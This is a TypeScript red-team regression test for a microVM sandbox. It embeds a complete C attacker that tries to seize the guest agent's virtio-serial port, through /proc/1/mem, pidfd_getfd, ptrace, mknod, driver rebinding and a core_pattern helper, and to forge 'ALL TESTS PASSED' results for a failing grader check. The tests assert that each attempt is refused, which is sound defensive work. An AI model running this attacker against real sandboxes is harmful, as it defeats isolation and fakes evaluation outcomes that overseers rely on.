/**
 * Red team, forged results in a microVM (issue 27, High 3): the guest agent is PID 1 and holds the
 * virtio-serial port that carries every result to the edge. The red team's static binary, left
 * running by one command, took the port's fd with pidfd_getfd, read the next request's id from
 * /proc/1/mem and wrote a stdout frame and an exit-0 frame for it: a check that printed FAIL and
 * exited 1 came back `exitCode 0, "ALL TESTS PASSED"`, writablePaths or not.
 *
 * Here the same attacker (a static C program compiled on the host, uploaded through the files API)
 * is left running and tries every way onto the channel: pidfd_getfd on PID 1's fds, /proc/1/mem,
 * /proc/1/fd, ptrace, process_vm_readv, the port's device node (unlinked, recreated with mknod, a
 * fresh devtmpfs), and, with whatever it gets, forges the frames of the next request carrying its
 * marker. The later check must come back as it ran, and each primitive must be refused. A second
 * attacker goes for a later writablePaths check's own process (its stdout through
 * /proc/<pid>/fd/1, its memory, ptrace, pidfd_getfd); a third unplugs the port's driver and binds
 * it again, to hold a new port under the same name and answer the edge itself.
 *
 * What stops it (vm-agent.c, agent-client.ts): PID 1 is non-dumpable and mlock'ed; commands run
 * without CAP_SYS_PTRACE (and what would give them the guest kernel), under a seccomp filter, with
 * Yama's ptrace_scope=1, and a confined command holds a capability no plain one does; the kernel
 * refuses modules, kexec and (lockdown) raw hardware access; an unplugged port powers the guest
 * off; and every frame carries the MAC of a key only the edge and PID 1 hold, and the nonce of
 * its request, or the edge refuses it.
 *
 * Why one long file (over 500 lines): most of it is the attacker itself, a C program kept here as a
 * string (compiled on the host in before()), uploaded once into the one guest every test shares (a
 * TCG boot costs tens of seconds).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Sandbox } from '@dsec/sdk';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { vmSkipReason } from '../helpers/vm.js';
import { attack, must, show } from './support/harness.js';

/** The attacker (modes in main). Its marker is put together at run time: see make_marker. */
const ATTACKER_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int logfd = -1, console = -1;

static void say(const char *fmt, ...) {
  char b[600];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(b, sizeof b - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > (int)sizeof b - 2) n = sizeof b - 2;
  b[n++] = '\n';
  if (logfd >= 0 && write(logfd, b, (size_t)n) < 0) {}
  if (logfd >= 0) fsync(logfd);
  if (console >= 0 && write(console, b, (size_t)n) < 0) {}
}

static const char *res(long r) { return r >= 0 ? "ok" : strerrorname_np(errno); }

/* The victim's marker. Built at run time: this binary went through the agent's memory on its way
   in (a files write), and the literal must not be found there. */
static char marker[32];
static void make_marker(void) {
  const char *enc = "WJDUJN.SFRVFTU.8g4b";
  size_t i;
  for (i = 0; enc[i]; i++) marker[i] = (char)(enc[i] - 1);
  marker[i] = 0;
}

static int read_small(const char *path, char *buf, size_t n) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t r = read(fd, buf, n - 1);
  close(fd);
  if (r < 0) return -1;
  buf[r] = 0;
  while (r > 0 && (buf[r - 1] == '\n' || buf[r - 1] == ' ')) buf[--r] = 0;
  return 0;
}

/* The agent port's device number from sysfs (0: none) and its name (vportNpM). */
static dev_t agent_port(char *name, size_t n) {
  DIR *d = opendir("/sys/class/virtio-ports");
  struct dirent *e;
  dev_t dev = 0;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char p[512], v[64];
    snprintf(p, sizeof p, "/sys/class/virtio-ports/%s/name", e->d_name);
    if (read_small(p, v, sizeof v) < 0 || strcmp(v, "dsec.agent")) continue;
    snprintf(p, sizeof p, "/sys/class/virtio-ports/%s/dev", e->d_name);
    unsigned ma, mi;
    if (read_small(p, v, sizeof v) == 0 && sscanf(v, "%u:%u", &ma, &mi) == 2) {
      dev = makedev(ma, mi);
      snprintf(name, n, "%s", e->d_name);
    }
  }
  if (d) closedir(d);
  return dev;
}

static void be32(unsigned char *p, uint32_t v) { p[0] = (unsigned char)(v >> 24); p[1] = (unsigned char)(v >> 16); p[2] = (unsigned char)(v >> 8); p[3] = (unsigned char)v; }

static int write_frame(int fd, const char *header, const char *payload) {
  unsigned char buf[4096];
  size_t hl = strlen(header), pl = payload ? strlen(payload) : 0;
  be32(buf, (uint32_t)hl);
  be32(buf + 4, (uint32_t)pl);
  memcpy(buf + 8, header, hl);
  if (pl) memcpy(buf + 8 + hl, payload, pl);
  return write(fd, buf, 8 + hl + pl) == (ssize_t)(8 + hl + pl) ? 0 : -1;
}

/* The frames the edge would take as the victim's: its output, then exit 0. */
static void forge(int fd, long long id, const char *nonce) {
  char h[300], tag[120] = "";
  if (*nonce) snprintf(tag, sizeof tag, ",\"nonce\":\"%s\"", nonce);
  snprintf(h, sizeof h, "{\"id\":%lld%s,\"ev\":\"stdout\"}", id, tag);
  int a = write_frame(fd, h, "ALL TESTS PASSED\n");
  snprintf(h, sizeof h, "{\"id\":%lld%s,\"ev\":\"exit\",\"code\":0}", id, tag);
  int b = write_frame(fd, h, NULL);
  say("forged: id %lld nonce %s (%s %s)", id, *nonce ? nonce : "-", a ? "stdout failed" : "stdout written", b ? "exit failed" : "exit written");
}

/* In a request's JSON after the marker: the id and nonce the edge gave it ("op":"exec","id":N,"nonce":"..."). */
static int request_of(const char *p, const char *end, long long *id, char *nonce, size_t nn) {
  const char *op = memmem(p, (size_t)(end - p), "\"op\":\"exec\"", 11);
  const char *i = memmem(p, (size_t)(end - p), "\"id\":", 5);
  if (!op || !i) return -1;
  *id = strtoll(i + 5, NULL, 10);
  nonce[0] = 0;
  const char *n = memmem(p, (size_t)(end - p), "\"nonce\":\"", 9);
  if (n) {
    n += 9;
    size_t k = 0;
    while (n + k < end && n[k] != '"' && k + 1 < nn) { nonce[k] = n[k]; k++; }
    nonce[k] = 0;
  }
  return *id > 0 ? 0 : -1;
}

/* Scans PID 1's writable memory for the victim's request (the red team's way to its id). */
static int scan_agent(int mem, long long *id, char *nonce, size_t nn) {
  FILE *maps = fopen("/proc/1/maps", "r");
  if (!maps) return -1;
  char line[512];
  static char buf[1 << 20];
  int found = -1;
  while (found < 0 && fgets(line, sizeof line, maps)) {
    unsigned long lo, hi;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w' || strstr(line, "[v")) continue;
    for (unsigned long at = lo; found < 0 && at < hi; at += sizeof buf - 4096) {
      size_t want = hi - at < sizeof buf ? hi - at : sizeof buf;
      ssize_t r = pread(mem, buf, want, (off_t)at);
      if (r <= 0) break;
      const char *m = memmem(buf, (size_t)r, marker, strlen(marker));
      if (m) found = request_of(m, buf + r, id, nonce, nn);
    }
  }
  fclose(maps);
  return found;
}

/* probe: every way from a leftover process to PID 1 and its port; forges the victim's frames with what it gets. */
static int probe(void) {
  char portname[64] = "";
  dev_t portdev = agent_port(portname, sizeof portname);
  say("port: %s %u:%u", portname, major(portdev), minor(portdev));
  int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
  say("pidfd_open 1: %s", res(pidfd));
  int port = -1;
  long got = -1;
  int gerr = 0;
  for (int fd = 0; pidfd >= 0 && fd < 64; fd++) {
    int copy = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
    if (copy < 0) { if (!gerr || errno != EBADF) gerr = errno; continue; }
    got = fd;
    struct stat st;
    if (fstat(copy, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == portdev) { port = copy; break; }
    close(copy);
  }
  if (got >= 0) say("pidfd_getfd 1: ok%s", port >= 0 ? " (the port)" : "");
  else { errno = gerr ? gerr : EBADF; say("pidfd_getfd 1: %s", res(-1)); }
  int mem = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
  say("open /proc/1/mem: %s", res(mem));
  char link[256];
  long rl = -1;
  for (int fd = 0; fd < 16 && rl < 0; fd++) {
    char p[64];
    snprintf(p, sizeof p, "/proc/1/fd/%d", fd);
    rl = readlink(p, link, sizeof link - 1);
    if (rl < 0 && errno == ENOENT) continue;
    if (rl < 0) break;
  }
  say("readlink /proc/1/fd: %s", res(rl));
  int env = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
  say("open /proc/1/environ: %s", res(env));
  long pt = ptrace(PTRACE_SEIZE, 1, 0, 0);
  say("ptrace seize 1: %s", res(pt));
  if (pt == 0) {
    ptrace(PTRACE_INTERRUPT, 1, 0, 0);
    for (int i = 0; i < 100; i++) {
      if (waitpid(1, NULL, __WALL | WNOHANG) == 1) break;
      usleep(20000);
    }
    ptrace(PTRACE_DETACH, 1, 0, 0);
  }
  char b[16];
  struct iovec local = {b, sizeof b}, remote = {(void *)0x400000, sizeof b};
  say("process_vm_readv 1: %s", res(syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0)));
  char dev[128];
  snprintf(dev, sizeof dev, "/dev/%s", portname);
  int node = open(dev, O_RDWR | O_CLOEXEC);
  say("open %s: %s", dev, res(node));
  if (node >= 0 && port < 0) port = node;
  unlink("/tmp/.port");
  long mk = mknod("/tmp/.port", S_IFCHR | 0600, portdev);
  int made = mk == 0 ? open("/tmp/.port", O_RDWR | O_CLOEXEC) : -1;
  say("open a mknod'd port node: %s", mk == 0 ? res(made) : "mknod failed");
  if (made >= 0 && port < 0) port = made;
  mkdir("/tmp/.dev", 0700);
  if (mount("devtmpfs", "/tmp/.dev", "devtmpfs", 0, NULL) == 0) {
    snprintf(dev, sizeof dev, "/tmp/.dev/%s", portname);
    int fresh = open(dev, O_RDWR | O_CLOEXEC);
    say("open the port in a fresh devtmpfs: %s", res(fresh));
    if (fresh >= 0 && port < 0) port = fresh;
  } else say("open the port in a fresh devtmpfs: mount %s", strerrorname_np(errno));
  /* ptrace of its own child stays: strace and gdb work in a VM. */
  pid_t child = fork();
  if (child == 0) { pause(); _exit(0); }
  say("ptrace seize own child: %s", res(ptrace(PTRACE_SEIZE, child, 0, 0)));
  kill(child, SIGKILL);
  waitpid(child, NULL, __WALL);
  say("primitives done: port %s, memory %s", port >= 0 ? "held" : "none", mem >= 0 ? "readable" : "refused");
  if (port < 0 || mem < 0) { say("nothing to forge with"); return 0; }
  for (int i = 0; i < 1200; i++) {
    long long id;
    char nonce[80];
    if (scan_agent(mem, &id, nonce, sizeof nonce) == 0) { forge(port, id, nonce); return 0; }
    usleep(50000);
  }
  say("the victim's request never showed");
  return 0;
}

/* victim PIDFILE: reach into a later command's process (its pid in PIDFILE) and write into its stdout. */
static int victim(const char *pidfile) {
  char v[32] = "";
  for (int i = 0; i < 1200 && (read_small(pidfile, v, sizeof v) < 0 || !*v); i++) usleep(50000);
  long pid = atol(v);
  say("victim %ld", pid);
  if (pid <= 1) return 1;
  char p[64];
  snprintf(p, sizeof p, "/proc/%ld/fd/1", pid);
  int out = open(p, O_WRONLY | O_CLOEXEC);
  long w = out >= 0 ? write(out, "ALL TESTS PASSED\n", 17) : -1;
  say("write its stdout through /proc/<pid>/fd/1: %s", res(w));
  snprintf(p, sizeof p, "/proc/%ld/mem", pid);
  say("open /proc/<pid>/mem: %s", res(open(p, O_RDWR | O_CLOEXEC)));
  snprintf(p, sizeof p, "/proc/%ld/environ", pid);
  say("open /proc/<pid>/environ: %s", res(open(p, O_RDONLY | O_CLOEXEC)));
  long pt = ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0);
  say("ptrace seize: %s", res(pt));
  if (pt == 0) ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
  char b[8] = {0};
  struct iovec local = {b, sizeof b}, remote = {(void *)0x400000, sizeof b};
  say("process_vm_writev: %s", res(syscall(SYS_process_vm_writev, pid, &local, 1, &remote, 1, 0)));
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  say("pidfd_getfd its stdout: %s", res(pidfd >= 0 ? syscall(438, pidfd, 1, 0) : -1));
  say("done");
  return 0;
}

/* replug: unbind the virtio console driver and bind it again, then hold the new port and answer the edge. */
static int replug(void) {
  console = open("/dev/console", O_WRONLY | O_CLOEXEC | O_NOCTTY);
  sleep(2); /* the command that started this has reported its exit by then */
  char portname[64] = "", p[512], dir[512];
  if (!agent_port(portname, sizeof portname)) { say("REPLUG: no agent port"); return 1; }
  snprintf(p, sizeof p, "/sys/class/virtio-ports/%s/device", portname);
  if (!realpath(p, dir)) { say("REPLUG: %s: %s", p, strerror(errno)); return 1; }
  const char *virtio = strrchr(dir, '/') + 1;
  const char *steps[] = {"/sys/bus/virtio/drivers/virtio_console/unbind", "/sys/bus/virtio/drivers/virtio_console/bind"};
  for (int s = 0; s < 2; s++) {
    int fd = open(steps[s], O_WRONLY | O_CLOEXEC);
    long w = fd >= 0 ? write(fd, virtio, strlen(virtio)) : -1;
    say("REPLUG: %s %s: %s", steps[s], virtio, res(w));
    if (fd >= 0) close(fd);
  }
  int port = -1;
  for (int i = 0; i < 400 && port < 0; i++) {
    dev_t d = agent_port(portname, sizeof portname);
    if (d) {
      unlink("/tmp/.newport");
      if (mknod("/tmp/.newport", S_IFCHR | 0600, d) == 0) port = open("/tmp/.newport", O_RDWR | O_CLOEXEC);
    }
    if (port < 0) usleep(50000);
  }
  say("REPLUG: holding the new port: %s", port >= 0 ? "yes" : "no");
  if (port < 0) return 1;
  static unsigned char in[1 << 20];
  size_t len = 0;
  for (;;) {
    ssize_t r = read(port, in + len, sizeof in - len);
    if (r <= 0) { usleep(20000); continue; }
    len += (size_t)r;
    while (len >= 8) {
      uint32_t hl = (uint32_t)in[0] << 24 | (uint32_t)in[1] << 16 | (uint32_t)in[2] << 8 | in[3];
      uint32_t pl = (uint32_t)in[4] << 24 | (uint32_t)in[5] << 16 | (uint32_t)in[6] << 8 | in[7];
      if (len < 8 + (size_t)hl + pl) break;
      const char *h = (const char *)in + 8, *end = h + hl;
      long long id;
      char nonce[80];
      if (memmem(h, hl, marker, strlen(marker)) && request_of(h, end, &id, nonce, sizeof nonce) == 0) forge(port, id, nonce);
      memmove(in, in + 8 + hl + pl, len - 8 - hl - pl);
      len -= 8 + hl + pl;
    }
  }
}

/* helper: run by the kernel as a core_pattern pipe (a usermode helper: no seccomp, the kernel's credentials). */
static int helper(void) {
  console = open("/dev/console", O_WRONLY | O_CLOEXEC | O_NOCTTY);
  char caps[64] = "?";
  FILE *f = fopen("/proc/self/status", "r");
  char line[256];
  while (f && fgets(line, sizeof line, f))
    if (!strncmp(line, "CapEff:", 7)) { snprintf(caps, sizeof caps, "%s", line + 8); caps[strcspn(caps, "\n")] = 0; }
  if (f) fclose(f);
  int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
  const char *getfd = res(pidfd >= 0 ? syscall(438, pidfd, 0, 0) : -1);
  say("HELPER ran: uid %d caps %s; pidfd_getfd 1: %s; open /proc/1/mem: %s", (int)getuid(), caps, getfd, res(open("/proc/1/mem", O_RDONLY | O_CLOEXEC)));
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  make_marker();
  if (!strcmp(argv[1], "helper")) return helper(); /* says it on the console: the host reads that */
  logfd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (logfd < 0) return 2;
  if (!strcmp(argv[1], "probe")) return probe();
  if (!strcmp(argv[1], "victim") && argc > 3) return victim(argv[3]);
  if (!strcmp(argv[1], "replug")) return replug();
  return 2;
}
`;

/** The marker in the victim's command (make_marker builds the same at run time). */
const MARKER = 'VICTIM-REQUEST-7f3a';

/** The attacker, static, for the guest (busybox has no compiler); a string saying why not when it cannot be. */
function compileAttacker(): Buffer | string {
  const dir = mkdtempSync(join(tmpdir(), 'dsec-vm-forgery-'));
  try {
    writeFileSync(join(dir, 'a.c'), ATTACKER_C);
    const cc = spawnSync('gcc', ['-static', '-O1', '-Wall', '-o', join(dir, 'a'), join(dir, 'a.c')], { encoding: 'utf8' });
    if (cc.error || cc.status !== 0) return `gcc -static failed: ${cc.error?.message ?? cc.stderr}`;
    const bin = readFileSync(join(dir, 'a'));
    assert.equal(bin.includes(MARKER), false, "the marker's literal must not be in the binary");
    return bin;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const ATTACKER = '/usr/local/bin/vm-attacker';

/** Whether a process exists and is not a zombie (QEMU is no child of this process: it is not reaped here). */
function alive(pid: number): boolean {
  try {
    return !/\) Z /.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return false;
  }
}

/** Polls `check` every 100 ms until it returns a value, at most `ms`. */
async function until<T>(ms: number, check: () => Promise<T | undefined> | T | undefined): Promise<T | undefined> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await check();
    if (v !== undefined || Date.now() > deadline) return v;
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe('red team: a leftover process in a microVM cannot forge later results', { skip: vmSkipReason(), timeout: 600_000 }, () => {
  let server: TestServer;
  let sb: Sandbox;
  let bin: Buffer | string;

  before(async () => {
    bin = compileAttacker();
    server = await startTestServer();
    sb = await Sandbox.create({ ...server.conn, backend: 'microvm', resources: { memoryMiB: 256, cpu: 1, diskMiB: 64 } });
    if (typeof bin !== 'string') await sb.files.write(ATTACKER, bin, { mode: 0o755 });
  });
  after(async () => {
    await server?.close();
  });

  async function log(path: string): Promise<string> {
    return (await attack(server, sb, `cat ${path} 2>/dev/null`)).stdout;
  }

  test("what one command leaves running reaches neither PID 1 nor the channel: a later check's FAIL and exit 1 come back as they ran", async (t) => {
    if (typeof bin === 'string') return t.skip(bin);
    await must(server, sb, `setsid ${ATTACKER} probe /tmp/probe.log </dev/null >/dev/null 2>&1 & echo started`);
    const primitives = await until(120_000, async () => {
      const l = await log('/tmp/probe.log');
      return /^primitives done/m.test(l) ? l : undefined;
    });
    assert.ok(primitives, `the attacker never finished its attempts: ${await log('/tmp/probe.log')}`);
    // The grader's check: it fails, and says so. (Before the fix the attacker answered for it.)
    const r = await attack(server, sb, `: ${MARKER}; sleep 5; echo FAIL; exit 1`);
    const l = await log('/tmp/probe.log');
    t.diagnostic(l.trim());
    assert.equal(r.exitCode, 1, `the check's exit status is not its own: ${show(r)}; attacker: ${l}`);
    assert.equal(r.stdout, 'FAIL\n', `the check's output is not its own: ${show(r)}; attacker: ${l}`);
    assert.doesNotMatch(l, /^forged/m, l);
    // Each way in was refused, by the kernel, not by luck.
    assert.match(l, /^pidfd_getfd 1: EPERM$/m, l);
    assert.match(l, /^open \/proc\/1\/mem: (EACCES|EPERM)$/m, l);
    assert.match(l, /^readlink \/proc\/1\/fd: (EACCES|EPERM)$/m, l);
    assert.match(l, /^open \/proc\/1\/environ: (EACCES|EPERM)$/m, l);
    assert.match(l, /^ptrace seize 1: EPERM$/m, l);
    assert.match(l, /^process_vm_readv 1: EPERM$/m, l);
    assert.match(l, /^open \/dev\/vport\d+p\d+: ENOENT$/m, "the port's node is unlinked");
    assert.match(l, /^open a mknod'd port node: EBUSY$/m, 'the agent holds the port: a second opener gets EBUSY');
    assert.match(l, /^open the port in a fresh devtmpfs: (ENOENT|EBUSY)$/m, l);
    assert.match(l, /^primitives done: port none, memory refused$/m, l);
    assert.match(l, /^ptrace seize own child: ok$/m, 'a command still ptraces its own processes (strace, gdb)');
  });

  test('what a plain command leaves running cannot reach into a later writablePaths check: not its stdout, memory, environment, nor ptrace', async (t) => {
    if (typeof bin === 'string') return t.skip(bin);
    await must(server, sb, 'rm -f /tmp/victim.pid /tmp/reach.log');
    await must(server, sb, `setsid ${ATTACKER} victim /tmp/reach.log /tmp/victim.pid </dev/null >/dev/null 2>&1 & echo started`);
    const check =
      'echo $$ > /tmp/victim.pid; i=0; while ! grep -q "^done" /tmp/reach.log 2>/dev/null && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; echo FAIL; exit 1';
    const r = await attack(server, sb, check, { writablePaths: ['/tmp'] });
    const l = await log('/tmp/reach.log');
    t.diagnostic(l.trim());
    assert.match(l, /^done$/m, `the attacker did not finish: ${l}`);
    assert.equal(r.exitCode, 1, `${show(r)}; attacker: ${l}`);
    assert.equal(r.stdout, 'FAIL\n', `the attacker wrote into the check's output: ${show(r)}; attacker: ${l}`);
    assert.match(l, /^write its stdout through \/proc\/<pid>\/fd\/1: (EACCES|EPERM)$/m, l);
    assert.match(l, /^open \/proc\/<pid>\/mem: (EACCES|EPERM)$/m, l);
    assert.match(l, /^open \/proc\/<pid>\/environ: (EACCES|EPERM)$/m, l);
    assert.match(l, /^ptrace seize: EPERM$/m, l);
    assert.match(l, /^process_vm_writev: EPERM$/m, l);
    assert.match(l, /^pidfd_getfd its stdout: EPERM$/m, l);
  });

  test('the guest is locked down before the first command: capabilities, Yama, modules, kexec, lockdown', async () => {
    const facts =
      'grep CapBnd /proc/self/status; cat /proc/sys/kernel/yama/ptrace_scope /proc/sys/kernel/modules_disabled /proc/sys/kernel/kexec_load_disabled /sys/kernel/security/lockdown; echo 0 > /proc/sys/kernel/yama/ptrace_scope && echo lowered; true';
    const plain = await must(server, sb, facts);
    const [bnd, yama, modules, kexec, lockdown] = plain.stdout.trim().split('\n');
    const caps = BigInt(`0x${bnd!.split(/\s+/)[1]!}`);
    const has = (c: number): boolean => ((caps >> BigInt(c)) & 1n) === 1n;
    // CAP_SYS_MODULE 16, SYS_RAWIO 17, SYS_PTRACE 19, SYS_BOOT 22, PERFMON 38, BPF 39: never; SYS_ADMIN 21, NET_ADMIN 12, MKNOD 27: kept.
    for (const c of [16, 17, 19, 22, 38, 39]) assert.equal(has(c), false, `a command holds capability ${c}: ${bnd}`);
    for (const c of [0, 12, 21, 27]) assert.equal(has(c), true, `a command lost capability ${c}: ${bnd}`);
    assert.equal(has(37), false, 'CAP_AUDIT_READ marks confined commands only');
    assert.deepEqual([yama, modules, kexec, lockdown], ['1', '1', '1', 'none integrity [confidentiality]']);
    // Red team round three, second pass: with integrity alone a command mounted tracefs and put a
    // kprobe on PID 1's writes, reading the MAC key's states and every frame. Confidentiality
    // refuses tracefs and kprobes to everyone.
    const trace = await must(
      server,
      sb,
      "mkdir -p /tmp/tr; mount -t tracefs nodev /tmp/tr 2>&1; echo 'p:dsecprobe ksys_write' >> /tmp/tr/kprobe_events 2>&1 && echo kprobe-set; cat /tmp/tr/trace 2>&1 | head -1 && echo trace-read; umount /tmp/tr 2>/dev/null; true",
    );
    assert.doesNotMatch(trace.stdout, /kprobe-set/, `a command set a kprobe: ${show(trace)}`);
    assert.doesNotMatch(
      trace.stdout.replace(/.*(Operation not permitted|No such file|Permission denied).*\n?/g, ''),
      /^# tracer/m,
      `a command read the trace: ${show(trace)}`,
    );
    assert.doesNotMatch(plain.stdout, /lowered/, 'only CAP_SYS_PTRACE may lower ptrace_scope');
    const confined = await must(server, sb, 'grep CapBnd /proc/self/status', { writablePaths: ['/tmp'] });
    const ccaps = BigInt(`0x${confined.stdout.trim().split(/\s+/)[1]!}`);
    assert.equal((ccaps >> 37n) & 1n, 1n, `a confined command holds CAP_AUDIT_READ: ${confined.stdout}`);
    assert.equal((ccaps >> 19n) & 1n, 0n, `nor a confined command CAP_SYS_PTRACE: ${confined.stdout}`);
  });

  test("a program root has the kernel start (a core_pattern pipe: no seccomp filter of a command's) reaches neither PID 1 nor what commands lack", async (t) => {
    if (typeof bin === 'string') return t.skip(bin);
    // The kernel starts it itself, as root, outside every command's domain; what it says goes to
    // the console (the VM's console.log on the host).
    const pattern = `|${ATTACKER} helper -`;
    const r = await must(
      server,
      sb,
      `echo '${pattern}' > /proc/sys/kernel/core_pattern; cat /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c 'kill -SEGV $$'; sleep 3; echo core > /proc/sys/kernel/core_pattern; true`,
    );
    assert.equal(r.stdout.split('\n')[0], pattern, `root in the guest sets core_pattern (else this test tries nothing): ${show(r)}`);
    const consoleLog = join(server.dataDir, 'node', 'vms', sb.id, 'console.log');
    const said = await until(10_000, () =>
      readFileSync(consoleLog, 'utf8')
        .split('\n')
        .find((x) => /HELPER ran/.test(x)),
    );
    assert.ok(said, 'the kernel did not start the helper (else this test tries nothing)');
    t.diagnostic(said);
    const m = /caps ([0-9a-f]+); pidfd_getfd 1: (\w+); open \/proc\/1\/mem: (\w+)/.exec(said);
    assert.ok(m, said);
    const caps = BigInt(`0x${m[1]!}`);
    // SYS_MODULE 16, SYS_RAWIO 17, SYS_ADMIN 21, SYS_PTRACE 19, SYS_BOOT 22, AUDIT_READ 37, PERFMON 38, BPF 39.
    for (const c of [16, 17, 19, 21, 22, 37, 38, 39])
      assert.equal((caps >> BigInt(c)) & 1n, 0n, `the helper holds capability ${c}: ${said}`);
    assert.equal(m[2], 'EPERM', said);
    assert.match(m[3]!, /^(EACCES|EPERM)$/, said);
  });

  test('a port unplugged and bound again in the guest: the guest powers off, and no answer from the new port is taken', async (t) => {
    if (typeof bin === 'string') return t.skip(bin);
    // A VM of its own: this one ends.
    const vm = await Sandbox.create({ ...server.conn, backend: 'microvm', resources: { memoryMiB: 256, cpu: 1, diskMiB: 64 } });
    const consoleLog = join(server.dataDir, 'node', 'vms', vm.id, 'console.log');
    await vm.files.write(ATTACKER, bin, { mode: 0o755 });
    await must(server, vm, `setsid ${ATTACKER} replug /tmp/replug.log </dev/null >/dev/null 2>&1 & echo started`);
    const seen = await until(60_000, () => {
      const c = existsSync(consoleLog) ? readFileSync(consoleLog, 'utf8') : '';
      return /REPLUG: holding the new port|unplugged/.test(c) ? c : undefined;
    });
    assert.ok(seen, `neither the attacker nor the agent said anything: ${existsSync(consoleLog) ? readFileSync(consoleLog, 'utf8') : ''}`);
    // The grader's check goes to the VM now: it must not come back as the attacker's.
    const r = await attack(server, vm, `: ${MARKER}; echo FAIL; exit 1`, { timeoutMs: 20_000 }).then(
      (x) => x,
      (err: Error) => err,
    );
    const text = readFileSync(consoleLog, 'utf8');
    t.diagnostic(
      text
        .split('\n')
        .filter((x) => /REPLUG|dsec-vm-agent|forged/.test(x))
        .join('\n'),
    );
    if (!(r instanceof Error)) {
      assert.notEqual(r.exitCode, 0, `the attacker answered for the check: ${show(r)}; console: ${text}`);
      assert.doesNotMatch(r.stdout, /PASSED/, show(r));
    }
    assert.match(text, /the agent's virtio-serial port was unplugged in the guest/, text);
    const qemu = (await server.dsec.vms!.listSandboxes()).find((s) => s.id === vm.id)?.pid;
    const gone = await until(30_000, () => (qemu === undefined || !alive(qemu) ? true : undefined));
    assert.ok(gone, `QEMU (${qemu}) still runs: the guest did not power off`);
  });
});
